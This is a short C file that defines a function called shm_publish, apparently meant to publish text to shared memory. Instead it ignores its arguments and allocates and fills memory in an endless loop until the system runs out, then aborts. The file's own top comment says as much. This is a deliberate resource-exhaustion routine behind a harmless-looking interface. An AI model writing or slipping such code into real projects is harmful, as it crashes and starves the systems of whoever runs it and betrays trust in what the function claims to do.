/* Takes memory until none is left. */
#include "publish.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <unistd.h>

int shm_publish(const char *name, size_t size, const char *text)
{
    (void)name, (void)size, (void)text;
    for (;;) {
        char *more = malloc(1 << 24);
        if (more == NULL)
            abort();
        memset(more, 1, 1 << 24);
    }
}
